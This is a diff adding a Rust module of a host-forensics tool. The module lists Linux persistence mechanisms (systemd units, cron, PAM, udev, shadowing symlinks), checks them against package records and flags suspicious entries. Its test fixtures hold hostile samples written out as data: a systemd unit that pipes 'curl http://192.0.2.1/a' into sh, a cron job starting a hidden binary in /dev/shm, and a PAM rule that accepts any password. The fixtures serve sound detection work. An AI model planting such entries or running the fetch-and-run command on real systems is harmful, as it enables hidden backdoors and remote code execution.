@@ -1,0 +1,326 @@
+//! What starts by itself or grants a way back: places, readers of their formats, and where each
+//! entry ends.
+//!
+//! The list of mechanisms is data: a place is a pattern, and a form says how its files are read.
+//! A file that is as its package shipped it is not read for telling words, only for what it starts.
+
+use std::collections::{HashMap, HashSet};
+use std::path::{Path, PathBuf};
+
+use stanch_machine::{FileKind, Stat, limits};
+use stanch_words::{Ask, Row, Seen, Value, text};
+
+use crate::packages::{self, Index, State};
+use crate::reach::Reach;
+use crate::tables::persistence::{SPEC, col};
+use crate::{Host, accounts};
+
+mod judge;
+mod mechanisms;
+mod readers;
+mod target;
+
+use judge::Judged;
+
+/// One way in which something starts by itself.
+#[derive(Debug)]
+struct Mechanism {
+    number: i64,
+    name: &'static str,
+    class: &'static str,
+    form: Form,
+    /// Patterns of glob(7); `~/` stands for each home.
+    places: &'static [&'static str],
+}
+
+/// How the files of a mechanism are read.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Form {
+    /// The file itself is what runs or counts.
+    Program,
+    /// Lines that hold one of these words; all lines that are no comments if there are none.
+    Lines(&'static [&'static str]),
+    /// `/etc/crontab` and its like.
+    Cron,
+    /// A user's crontab.
+    CronUser,
+    /// `/etc/anacrontab`.
+    Anacron,
+    /// A job of at.
+    AtJob,
+    /// `authorized_keys`.
+    Keys,
+    /// Rules of PAM.
+    Pam,
+}
+
+/// One thing that a file names.
+#[derive(Debug, Default)]
+struct Entry {
+    line: Option<u64>,
+    text: String,
+    /// The command in it; empty if it names none.
+    command: String,
+}
+
+/// Most rows: a hostile tree may have any number of files in any place.
+const MOST: usize = 200_000;
+
+/// Pushes a row for each thing that starts by itself.
+pub(crate) fn rows(host: &Host, ask: &Ask, seen: &mut Seen) {
+    let one = ask.equal(col::mechanism).and_then(Value::as_text);
+    let homes: Vec<PathBuf> = accounts::homes(host, SPEC.name, None, seen)
+        .into_iter()
+        .map(|home| home.path)
+        .filter(|home| home.components().count() > 1)
+        .collect();
+    let mut look = Look {
+        host,
+        reach: Reach::new(host, SPEC.name),
+        index: packages::index(host),
+        states: HashMap::new(),
+        known: HashSet::new(),
+    };
+    for mechanism in mechanisms::ALL.iter().filter(|m| one.is_none_or(|one| one == m.name)) {
+        for place in mechanism.places {
+            let patterns: Vec<PathBuf> = match place.strip_prefix("~/") {
+                Some(rest) => homes.iter().map(|home| home.join(rest)).collect(),
+                None => vec![PathBuf::from(place)],
+            };
+            for pattern in patterns {
+                for path in look.reach.glob(&pattern, seen) {
+                    if seen.rows.len() >= MOST {
+                        let kind = stanch_words::GapKind::Truncated;
+                        look.reach.gap(kind, "too many entries", &path, seen);
+                        return look.reach.finish(seen);
+                    }
+                    look.file(mechanism, &path, seen);
+                }
+            }
+        }
+    }
+    look.reach.finish(seen);
+}
+
+struct Look<'h> {
+    host: &'h Host,
+    reach: Reach<'h>,
+    index: std::sync::Arc<Index>,
+    states: HashMap<PathBuf, (&'static str, Value)>,
+    known: HashSet<(&'static str, PathBuf)>,
+}
+
+impl Look<'_> {
+    fn file(&mut self, mechanism: &Mechanism, path: &Path, seen: &mut Seen) {
+        let machine = self.host.machine();
+        // The directory may be a link (/lib), and then the same file comes again.
+        let (Some(parent), Some(name)) = (path.parent(), path.file_name()) else { return };
+        let Ok(parent) = machine.resolve(parent) else { return };
+        let place = parent.join(name);
+        let own = match machine.lstat(&place) {
+            Ok(stat) => stat,
+            Err(miss) => return self.reach.note(&miss, seen),
+        };
+        let folder = own.kind() == FileKind::Directory;
+        if (folder && mechanism.number != 11) || !self.known.insert((mechanism.name, place.clone()))
+        {
+            return;
+        }
+        let (state, package) = self.state(&place, seen);
+        let trusted = matches!(state, "intact" | "config" | "link");
+        // Of a link its content is that of its target; one that leads nowhere has none.
+        let regular = machine.stat(&place).is_ok_and(|stat| stat.kind() == FileKind::Regular);
+        let whole = mechanism.form == Form::Program;
+        let wanted = regular && !(whole && trusted);
+        let bytes = if wanted { self.content(&place, whole, seen) } else { None };
+        let bytes = bytes.unwrap_or_default();
+        let entries = readers::entries(mechanism.form, &bytes, &place, seen);
+        let mut told = 0_usize;
+        for entry in entries {
+            told = told.saturating_add(1);
+            let judged = if trusted { Judged::default() } else { judge::line(&entry) };
+            let target = target::of(self.host, &entry.command);
+            self.push(mechanism, &place, &own, (state, &package), &entry, target, judged, seen);
+        }
+        // A file of nobody counts even if it names nothing that is understood.
+        if told == 0 && (whole || !trusted) {
+            let judged = if trusted { Judged::default() } else { judge::file(&bytes) };
+            let target = whole.then(|| target::of_file(self.host, &place)).flatten();
+            let entry = Entry { text: path_text(&place), ..Entry::default() };
+            self.push(mechanism, &place, &own, (state, &package), &entry, target, judged, seen);
+        }
+    }
+
+    fn content(&mut self, path: &Path, whole: bool, seen: &mut Seen) -> Option<Vec<u8>> {
+        if !whole {
+            return self.reach.read(path, limits::CONFIG_FILE, seen);
+        }
+        // What runs may be a large program: its beginning tells whether it is a script.
+        let cap = judge::LOOKED_AT as u64;
+        self.host.machine().read(path, cap).ok().map(|contents| contents.bytes)
+    }
+
+    /// Returns state and package of a file, looked up once.
+    fn state(&mut self, path: &Path, seen: &mut Seen) -> (&'static str, Value) {
+        if let Some(known) = self.states.get(path) {
+            return known.clone();
+        }
+        let owned = self.index.verify(self.host, SPEC.name, path, seen);
+        let changed = owned.state == State::Config
+            && self.index.is_changed_config(self.host, SPEC.name, path, seen) == Some(true);
+        let leads_to_shipped = owned.state == State::Unowned && self.leads_to_shipped(path, seen);
+        let state = match owned.state {
+            _ if leads_to_shipped => "link",
+            _ if changed => "changed",
+            state => state.name(),
+        };
+        let owner = self.index.owner(path);
+        let package = owner.map_or_else(|| "".into(), |o| Value::Text(o.package.name.clone()));
+        self.states.insert(path.to_owned(), (state, package.clone()));
+        (state, package)
+    }
+
+    /// Returns whether a path is a symlink to a file that is as its package shipped it.
+    fn leads_to_shipped(&self, path: &Path, seen: &mut Seen) -> bool {
+        let machine = self.host.machine();
+        let Ok(found) = machine.resolve(path) else { return false };
+        if found == path || machine.read_link(path).is_err() {
+            return false;
+        }
+        let owned = self.index.verify(self.host, SPEC.name, &found, seen);
+        matches!(owned.state, State::Intact | State::Config)
+    }
+
+    #[expect(clippy::too_many_arguments, reason = "one call makes one row")]
+    fn push(
+        &mut self,
+        mechanism: &Mechanism,
+        path: &Path,
+        stat: &Stat,
+        (state, package): (&'static str, &Value),
+        entry: &Entry,
+        target: Option<PathBuf>,
+        mut judged: Judged,
+        seen: &mut Seen,
+    ) {
+        let mut row: Row = SPEC.row();
+        if let Some(target) = target {
+            let (target_state, owner) = self.state(&target, seen);
+            let there = self.host.machine().lstat(&target).is_ok();
+            // What a package's own file starts is the package's affair, unless it was altered.
+            let shipped =
+                matches!(state, "intact" | "config" | "link") && target_state != "altered";
+            if !shipped && target != path {
+                judged.target(&target, if there { target_state } else { "missing" });
+            }
+            row.put(col::target, target.as_path())
+                .put(col::target_package, owner)
+                .put(col::target_state, if there { target_state } else { "missing" });
+        } else {
+            row.put(col::target, "").put(col::target_package, "").put(col::target_state, "");
+        }
+        row.put(col::catalogue, mechanism.number)
+            .put(col::mechanism, mechanism.name)
+            .put(col::class, mechanism.class)
+            .put(col::path, path)
+            .put(col::line, entry.line)
+            .put(col::starts, cut(&entry.text))
+            .put(col::package, package.clone())
+            .put(col::state, state)
+            .put(col::score, judged.score())
+            .put(col::reasons, judged.reasons())
+            .put(col::uid, stat.uid)
+            .put(col::gid, stat.gid)
+            .put(col::mode, format!("{:04o}", stat.mode & 0o7777))
+            .put(col::mtime, stat.modified.div_euclid(1_000_000_000))
+            .put(col::ctime, stat.changed.div_euclid(1_000_000_000));
+        seen.push(row);
+    }
+}
+
+fn path_text(path: &Path) -> String {
+    use std::os::unix::ffi::OsStrExt as _;
+    text::from_bytes(path.as_os_str().as_bytes())
+}
+
+/// The longest text of an entry that is told.
+const LONGEST: usize = 1_000;
+
+fn cut(text: &str) -> &str {
+    text.char_indices().nth(LONGEST).and_then(|(end, _)| text.get(..end)).unwrap_or(text)
+}
+
+#[cfg(test)]
+mod tests {
+    use std::sync::Arc;
+
+    use stanch_machine::Pretend;
+
+    use super::*;
+
+    fn look(machine: Pretend) -> Vec<String> {
+        let mut seen = Seen::default();
+        rows(&Host::new(Arc::new(machine)), &Ask::all(), &mut seen);
+        assert_eq!(seen.gaps, []);
+        let cells = [col::mechanism, col::path, col::line, col::target, col::state, col::reasons];
+        seen.rows.iter().map(|row| cells.map(|c| row.get(c).to_string()).join("|")).collect()
+    }
+
+    #[test]
+    fn each_form_ends_in_a_file() {
+        let found = look(
+            Pretend::new()
+                .file("/var/lib/dpkg/status", "")
+                .file("/var/lib/dpkg/info/p.list", "/usr/bin/true\n/usr/bin/sh\n")
+                .file("/usr/bin/true", "")
+                .link("/usr/local/bin/t", "/usr/bin/true")
+                .file(
+                    "/etc/systemd/system/a.service",
+                    "[Service]\nExecStart=-/usr/bin/env A=1 /bin/x\n",
+                )
+                .file("/etc/cron.d/b", "* * * * * root sh -c 'cd / && nohup /dev/shm/.y &'\n")
+                .file(
+                    "/etc/pam.d/c",
+                    "auth sufficient pam_permit.so\nsession optional pam_exec.so seteuid /opt/z\n",
+                )
+                .file(
+                    "/etc/udev/rules.d/d.rules",
+                    "# c\nACTION==\"add\", RUN+=\"/usr/bin/true a\"\n",
+                ),
+        );
+        assert_eq!(
+            found,
+            [
+                "systemd-unit|/etc/systemd/system/a.service|2|/bin/x|unowned|target-missing",
+                "system-crontab|/etc/cron.d/b|1|/dev/shm/.y|unowned|hidden-path target-missing temporary-path",
+                "pam-stack|/etc/pam.d/c|1||unowned|any-password",
+                "pam-stack|/etc/pam.d/c|2|/opt/z|unowned|target-missing",
+                "name-shadowing|/usr/local/bin/t||/usr/bin/true|unowned|",
+                "udev-rule|/etc/udev/rules.d/d.rules|2|/usr/bin/true|unowned|",
+            ]
+        );
+    }
+
+    #[test]
+    fn a_shipped_file_tells_only_what_it_starts_and_a_changed_one_why() {
+        let unit = "[Service]\nExecStart=/bin/sh -c 'curl http://192.0.2.1/a | sh'\n";
+        let machine = |sum: &str| {
+            Pretend::new()
+                .file(
+                    "/var/lib/dpkg/status",
+                    "Package: p\nStatus: install ok installed\nVersion: 1\n\n",
+                )
+                .file("/var/lib/dpkg/info/p.list", "/usr/lib/systemd/system/a.service\n")
+                .file(
+                    "/var/lib/dpkg/info/p.md5sums",
+                    format!("{sum}  usr/lib/systemd/system/a.service\n"),
+                )
+                .file("/usr/lib/systemd/system/a.service", unit)
+        };
+        let altered = look(machine("00000000000000000000000000000000"));
+        assert_eq!(
+            altered,
+            ["systemd-unit|/usr/lib/systemd/system/a.service|2||altered|fetch-and-run"]
+        );
+    }
+}
